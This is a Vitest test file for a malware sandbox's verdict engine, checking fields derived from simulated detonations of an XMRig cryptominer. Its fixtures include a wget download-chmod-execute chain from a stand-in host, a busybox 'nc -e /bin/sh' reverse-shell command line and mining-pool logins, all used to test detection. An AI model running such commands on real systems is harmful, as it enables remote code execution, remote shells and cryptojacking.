import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { buildContext } from '../../src/verdict/context.js';
import { eventsOf, FIELDS_BY_KIND } from '../../src/verdict/fields/index.js';
import { EVENT_KINDS } from '../../src/verdict/types.js';
import { applet, conn, detonation, minerRun, proc } from './behavior.js';

const docs = readFileSync(fileURLToPath(new URL('../../docs/rules.md', import.meta.url)), 'utf8');

const rich = () => {
  const base = minerRun();
  return detonation({
    ...base,
    processes: [...base.processes, applet(9, 1, 'wget', ['-O', '/tmp/a', 'http://dl.example.invalid/a']), proc(10, 1, ['/tmp/b'], '/tmp/b', 500)],
    files: [
      { op: 'create', path: '/tmp/a', pid: 9 },
      { op: 'chmod', path: '/tmp/a', pid: 1 },
      { op: 'rename', path: '/tmp/a', to: '/tmp/b', pid: 1 },
    ],
    connections: [...base.connections, conn({ pid: 9, dst: '198.51.100.4', port: 80, host: 'dl.example.invalid', protocol: 'http' })],
    kills: [{ pid: 1, target: 7, signal: 'SIGTERM', targetExe: '/opt/xmrig' }],
    failedExecs: [{ pid: 11, exe: '/tmp/c', argv: ['/tmp/c', '--donate-level', '1'], error: 'ENOENT', atMs: 600 }],
  });
};

describe('behaviour fields', () => {
  it('every field is documented in docs/rules.md, and every event carries exactly the documented fields', () => {
    const ctx = buildContext(rich(), { findings: [{ category: 'cryptominer', severity: 'critical', source: 'static', rule: 'yara/Cryptominer_XMRig', title: 'XMRig cryptominer', path: 'opt/xmrig', layer: 0, removedInLayer: null, evidence: { family: 'xmrig' } }] });
    for (const kind of EVENT_KINDS) {
      const names = FIELDS_BY_KIND[kind].map((f) => f.name);
      for (const name of names) expect(docs, name).toContain(`\`${name}\``);
      const events = eventsOf(kind, ctx);
      expect(events.length, kind).toBeGreaterThan(0);
      for (const e of events) expect(Object.keys(e.values).sort(), kind).toEqual([...names].sort());
    }
  });

  it('computes the process tree fields: names through busybox, ancestors, connections, and how the exe got there', () => {
    const ctx = buildContext(rich());
    const byPid = Object.fromEntries(eventsOf('process', ctx).map((e) => [e.values['proc.pid'] as number, e.values]));
    expect(byPid[9]).toMatchObject({ 'proc.name': 'wget', 'proc.connected': true, 'proc.connection': 'dl.example.invalid:80', 'proc.ancestors': ['sh'] });
    // dropped as /tmp/a by wget (which connected), made executable, renamed to /tmp/b, run
    expect(byPid[10]).toMatchObject({
      'proc.exe_dropped': true,
      'proc.exe_chmodded': true,
      'proc.exe_downloaded': true,
      'proc.exe_download_from': 'dl.example.invalid:80',
      'proc.exe_written_by': ['wget', 'sh'],
      'proc.parent.name': 'sh',
    });
    expect(byPid[7]).toMatchObject({ 'proc.exe_dropped': false, 'proc.connected': true, 'proc.connection': 'pool.example.test:3333' });
    const busybox = buildContext(detonation({ processes: [proc(3, 1, ['busybox', 'nc', '-e', '/bin/sh'], '/bin/busybox'), proc(4, 1, ['/bin/sh'], '/bin/busybox')] }));
    expect(eventsOf('process', busybox).map((e) => e.values['proc.name'])).toEqual(['nc', 'sh']);
  });

  it('joins the sinkhole\'s records to connections and totals the run', () => {
    const ctx = buildContext(rich());
    const stratum = eventsOf('connection', ctx).find((e) => e.values['conn.protocol'] === 'stratum')!;
    expect(stratum.values).toMatchObject({
      'conn.stratum.method': ['login'],
      'conn.stratum.agent': expect.stringMatching(/^XMRig\/6\.21\.0/),
      'conn.stratum.wallet': expect.stringMatching(/^44AFF/),
      'conn.stratum.pool': 'pool.example.test:3333',
      'conn.proc.name': 'xmrig',
    });
    const run = eventsOf('run', ctx)[0]!.values;
    expect(run).toMatchObject({ 'run.cpu_busy': expect.closeTo(0.94, 6), 'run.connections': 2, 'run.distinct_dsts': 2, 'run.stratum': true, 'run.timed_out': true, 'run.killed_by': 'deadline', 'run.exit_code': null });
    const kill = eventsOf('kill', ctx)[0]!.values;
    expect(kill).toMatchObject({ 'kill.target_name': 'xmrig', 'kill.target_in_tree': true, 'kill.proc.name': 'sh' });
    expect(run).toMatchObject({ 'run.detonated': true, 'run.stratum_pool': 'pool.example.test:3333', 'run.connected_names': ['xmrig', 'wget'] });
  });

  it('reads findings with what the run did to their files; without a run every run-side field is unknown', () => {
    const findings = [
      { category: 'cryptominer' as const, severity: 'critical' as const, source: 'static' as const, rule: 'yara/Cryptominer_XMRig', title: 'XMRig cryptominer', path: 'opt/xmrig', layer: 1, removedInLayer: null, evidence: { family: 'xmrig' } },
      { category: 'cryptominer' as const, severity: 'critical' as const, source: 'static' as const, rule: 'cryptominer/stratum-url', title: 'Stratum URL', path: 'etc/cron.d/miner', layer: 1, removedInLayer: 2, evidence: { host: 'pool.example.test', port: 3333, line: 2 } },
      { category: 'cryptominer' as const, severity: 'critical' as const, source: 'dynamic' as const, rule: 'behavior.cryptominer.stratum', title: 'mining over stratum' },
    ];
    const ran = eventsOf('finding', buildContext(rich(), { findings })).map((e) => e.values);
    expect(ran[0]).toMatchObject({ 'finding.name': 'xmrig', 'finding.family': 'XMRig', 'finding.label': 'XMRig', 'finding.executed': true, 'finding.connected': true, 'finding.connection': 'pool.example.test:3333', 'finding.removed': false, 'finding.dynamic_rules': ['behavior.cryptominer.stratum'] });
    expect(ran[1]).toMatchObject({ 'finding.removed': true, 'finding.endpoint': 'pool.example.test:3333', 'finding.evidence.pool': 'pool.example.test:3333', 'finding.executed': false, 'finding.connected': false });
    const notRun = buildContext(detonation(), { detonated: false, findings });
    expect(eventsOf('finding', notRun)[0]!.values).toMatchObject({ 'finding.executed': null, 'finding.connected': null });
    expect(eventsOf('run', notRun)[0]!.values).toMatchObject({ 'run.detonated': false, 'run.stratum': null, 'run.cpu_busy': null });
  });
});
